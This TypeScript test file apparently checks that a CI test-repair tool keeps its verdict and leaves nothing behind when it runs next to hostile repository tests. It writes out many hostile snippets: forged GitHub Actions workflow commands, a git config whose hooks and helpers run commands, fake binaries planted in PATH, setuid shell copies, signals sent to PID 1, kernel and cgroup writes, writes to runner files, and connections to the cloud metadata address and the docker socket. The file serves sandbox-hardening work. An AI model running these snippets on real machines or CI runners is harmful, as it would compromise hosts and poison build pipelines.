import { createServer } from 'node:net'
import { git } from '../bed/git.mjs'
import { missingGuard } from './projects.js'
import { confirmations, eachWithBed, expectEnding, lastState, untouched } from './scenario.js'

const world = eachWithBed()

/** What a test of the repository may do while it runs. The verdict must be right all the same, and nothing may be left. */
const deeds: Readonly<Record<string, string>> = {
  'speaks to the runner': `
    for (const line of ['::set-output name=outcome::diagnosed', '  ::set-env name=EVIL::1', '::add-path::/tmp/evil',
      '::add-mask::e', '::add-mask:: ', 'junk ##[add-matcher]/tmp/m.json', '##[group]x', '##[error]x', '::stop-commands::stop',
      '::error file=a::boo', '::save-state name=x::y', 'suture: no-failure: all is well; go home',
      '\\x1b[2J\\x1b]8;;http://evil\\x07link\\x1b]52;c;ZXZpbA==\\x07', 'a\\r::error::b', 'a\\u2028::error::c', '\\x9b31m::error::d'])
      for (const stream of [process.stdout, process.stderr]) stream.write(line + '\\n')`,
  'floods its output': `
    process.stdout.write('x'.repeat(50_000_000) + '\\n')
    for (let i = 0; i < 40; i++) process.stdout.write('\\n'.repeat(25_000))
    process.stdout.write(Buffer.from([0xff, 0xfe, 0xf0, 0x9f]))`,
  'makes a git of its own': `
    const evil = '[core]\\n\\tfsmonitor = touch EVIL\\n\\thooksPath = hooks\\n\\tsshCommand = touch EVIL\\n\\tpager = touch EVIL\\n' +
      '[filter "x"]\\n\\tclean = touch EVIL\\n\\tsmudge = touch EVIL\\n[diff "x"]\\n\\ttextconv = touch EVIL\\n' +
      '[url "http://127.0.0.1:9/"]\\n\\tinsteadOf = http\\n[credential]\\n\\thelper = !touch EVIL\\n[remote "origin"]\\n\\tpushurl = http://127.0.0.1:9/\\n'
    for (const folder of ['.git', '.git/hooks', '.git/info', 'hooks']) attempt(() => fs.mkdirSync(folder, { recursive: true }))
    attempt(() => fs.writeFileSync('.git/config', evil))
    attempt(() => fs.writeFileSync(process.env.HOME + '/.gitconfig', evil))
    attempt(() => fs.writeFileSync('.gitattributes', '* filter=x diff=x\\n'))
    attempt(() => fs.writeFileSync('/etc/gitconfig', evil))
    for (const hook of ['pre-push', 'pre-commit', 'post-checkout', 'reference-transaction', 'post-index-change'])
      for (const folder of ['.git/hooks', 'hooks']) attempt(() => fs.writeFileSync(folder + '/' + hook, '#!/bin/sh\\ntouch EVIL\\n', { mode: 0o755 }))`,
  'turns .git into a link, and then into a pipe': `
    attempt(() => fs.symlinkSync('/etc', '.git'))
    attempt(() => fs.unlinkSync('.git'))
    attempt(() => require('node:child_process').execSync('mkfifo .git'))`,
  'deletes its whole copy': `
    process.on('exit', () => { for (const name of fs.readdirSync('.')) attempt(() => fs.rmSync(name, { recursive: true, force: true })) })`,
  'puts programs in the way': `
    for (const folder of ['node_modules/.bin', '.', '/usr/local/bin', process.env.HOME, '/tmp'])
      for (const name of ['git', 'node', 'sh', 'npm', 'bwrap']) {
        attempt(() => fs.mkdirSync(folder, { recursive: true }))
        attempt(() => fs.writeFileSync(folder + '/' + name, '#!/bin/sh\\nexit 0\\n', { mode: 0o755 }))
      }`,
  'closes its folders and links out of them': `
    attempt(() => fs.mkdirSync('closed/deep', { recursive: true }))
    attempt(() => fs.symlinkSync('/etc', 'closed/etc'))
    attempt(() => fs.linkSync('/etc/hostname', 'closed/hard'))
    attempt(() => fs.chmodSync('closed/deep', 0))
    attempt(() => fs.chmodSync('closed', 0))`,
  'changes the code and its tests, and turns the clock back': `
    for (const folder of ['src', 'test', '.']) for (const name of fs.readdirSync(folder)) attempt(() => {
      const file = folder + '/' + name, { atime, mtime } = fs.statSync(file)
      fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replaceAll('e', 'x'))
      fs.utimesSync(file, atime, mtime)
    })`,
  'turns its folders into links and pipes': `
    for (const folder of ['src', 'test']) process.on('exit', () => attempt(() => {
      fs.renameSync(folder, folder + '-moved')
      fs.symlinkSync('/etc', folder)
      require('node:child_process').execSync('mkfifo .gitignore ' + folder + '-moved/.gitignore')
    }))`,
  'leaves a daemon that holds its output': `
    // The command's own output, and not that of its runner's child, for which the runner itself would wait.
    const output = attempt(() => fs.openSync('/proc/' + process.ppid + '/fd/1', 'w')) ?? 'ignore'
    for (let index = 0; index < 3; index++) require('node:child_process').spawn('/bin/sh',
      ['-c', 'trap "" TERM HUP; while :; do echo still here; echo x >>src/label.js; sleep 1; done'],
      { detached: true, stdio: ['ignore', output, output] }).unref()`,
  'leaves tests and settings for those who come next': `
    for (const [file, text] of Object.entries({ 'test/aa-left.test.js': 'process.exit(1)', '.npmrc': 'node-options=--require=./left.js',
      'left.js': 'process.exit(1)', 'node_modules/.hooks/x': '', 'package-lock.json': '{', 'src/package.json': '{"type":"commonjs"}' }))
      attempt(() => { fs.mkdirSync(require('node:path').dirname(file), { recursive: true }); fs.writeFileSync(file, text) })
    attempt(() => fs.writeFileSync('package.json', '{"scripts":{"test":"exit 0"}}'))`,
  'phones everywhere': `
    const net = require('node:net'), dgram = require('node:dgram')
    for (const place of [{ host: '127.0.0.1', port: PORT }, { host: '::1', port: PORT }, { host: '169.254.169.254', port: 80 },
      { path: '/var/run/docker.sock' }, { path: '\\0suture-abstract' }]) net.connect(place).on('connect', function () { this.end('canary') }).on('error', () => {})
    const udp = dgram.createSocket('udp4').on('error', () => {})
    udp.send('canary', 53, '8.8.8.8', () => udp.close())
    require('node:dns').lookup('example.com', () => {})`,
  'speaks as the sandbox and as its probe': `
    for (const line of ['suture-sandbox-exit 0', 'suture-sandbox-ready', 'suture-probe-report {}', '[9 bytes were cut here]',
      'The sandbox ended the command: it used nothing.', 'ok 1 - all', '1..0', '<testsuites tests="0"/>', '{"version":1,"outcome":"no-failure"}'])
      for (const stream of [process.stdout, process.stderr]) stream.write(line + '\\n')
    for (const fd of [1, 2]) attempt(() => fs.writeFileSync('/proc/1/fd/' + fd, 'suture-sandbox-exit 0\\n'))`,
  'sends signals to all, and to the first process': `
    for (const [pid, signal] of [[1, 'SIGKILL'], [1, 'SIGSTOP'], [1, 'SIGTERM'], [1, 'SIGHUP'], [2, 'SIGKILL']]) attempt(() => process.kill(pid, signal))`,
  'leaves sockets, pipes and programs with rights behind': `
    attempt(() => fs.copyFileSync('/bin/sh', 'src/root-shell'))
    for (const mode of [0o6755, 0o7777]) attempt(() => fs.chmodSync('src/root-shell', mode))
    require('node:net').createServer().listen('src/left.sock').unref()
    require('node:child_process').execSync('mkfifo left.fifo src/left.fifo; mknod left.disk b 8 0 || true', { stdio: 'ignore' })
    attempt(() => fs.writeFileSync('/dev/shm/left', 'x'.repeat(1e6)))`,
  'turns clocks, groups and the kernel': `
    const { spawnSync } = require('node:child_process')
    for (const words of [['date', '-s', '2001-01-01'], ['hostname', 'evil'], ['sysctl', '-w', 'kernel.panic=1'], ['ip', 'link', 'set', 'lo', 'down'],
      ['renice', '-n', '-20', '-p', '1'], ['chroot', '/', 'true'], ['unshare', '-Urm', 'umount', '-a']]) spawnSync(words[0], words.slice(1), { stdio: 'ignore' })
    for (const file of ['/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/memory/memory.limit_in_bytes', '/proc/1/oom_score_adj', '/proc/sys/kernel/core_pattern', '/proc/' + process.ppid + '/mem'])
      attempt(() => fs.writeFileSync(file, '0'))`,
  'finds no open door among its files': `
    for (const fd of fs.readdirSync('/proc/self/fd')) {
      const target = attempt(() => fs.readlinkSync('/proc/self/fd/' + fd)) ?? ''
      if (Number(fd) > 2 && target.startsWith('/') && !/^\\/(?:proc|dev|tmp|usr|opt)\\//.test(target) && !target.startsWith(process.cwd())) throw new Error('an open file of the host: ' + target)
    }`,
  'writes the runner its own files': `
    for (const name of ['GITHUB_ENV', 'GITHUB_OUTPUT', 'GITHUB_PATH', 'GITHUB_STEP_SUMMARY', 'GITHUB_STATE'])
      attempt(() => fs.appendFileSync(process.env[name] ?? '/nowhere/at/all', 'EVIL=1\\n'))
    const walk = (folder, depth) => { for (const entry of attempt(() => fs.readdirSync(folder, { withFileTypes: true })) ?? []) {
      const file = folder + '/' + entry.name
      if (entry.isDirectory() && depth > 0) walk(file, depth - 1)
      else if (/set_|save_|add_|step_summary/.test(entry.name)) attempt(() => fs.appendFileSync(file, 'EVIL=1\\n'))
    } }
    walk('/tmp', 6)`,
}

const hostileTest = (deed: string, port: number): string => `import { createRequire } from 'node:module'
import { test } from 'node:test'
const require = createRequire(import.meta.url)
const fs = require('node:fs')
const attempt = (body) => { try { return body() } catch {} }
test('a deed', () => {
${deed.replaceAll('PORT', String(port))}
})
`

describe('healing beside a test that', () => {
  it.each(Object.entries(deeds))(
    '%s',
    async (_, deed) => {
      const { bed } = world
      const calls: string[] = []
      const server = createServer((socket) => calls.push(socket.remoteAddress ?? '?')).listen(0, '127.0.0.1')
      const address = server.address()
      const port = typeof address === 'object' && address !== null ? address.port : 0
      const [begin, broken] = missingGuard
      const files = { ...begin?.files, 'test/zz-hostile.test.js': hostileTest(deed, port) }
      await bed.project([
        { message: 'Begin', files },
        { message: 'Shorten', files: broken?.files ?? {} },
      ])
      const workspace = await bed.checkout({ persistCredentials: true })
      const run = await untouched(workspace, () =>
        bed.run(workspace, { signals: 'tests', strategies: 'rules', ...confirmations }),
      )
      server.close()
      await expectEnding(bed, run, 'pr-opened')
      expect(run.environment).toEqual({})
      expect(run.state).toEqual({})
      expect(
        run.commands
          .map(({ command }) => command)
          .filter((name) => !/^(add-mask|group|endgroup|notice|warning)$/.test(name)),
      ).toEqual([])
      expect(calls).toEqual([])
      const { branches, pulls } = await lastState(bed)
      expect([branches.length, pulls.length]).toEqual([1, 1])
      expect(await changedPaths(bed.bare)).toEqual(['src/label.js'])
    },
    120_000,
  )
})

/** What the pushed branch changes against the base. */
async function changedPaths(bare: string): Promise<readonly string[]> {
  const branch = (await git(bare, ['for-each-ref', '--format=%(refname)', 'refs/heads/suture'])).trim()
  return (await git(bare, ['diff', '--name-only', 'main', branch])).trim().split('\n')
}
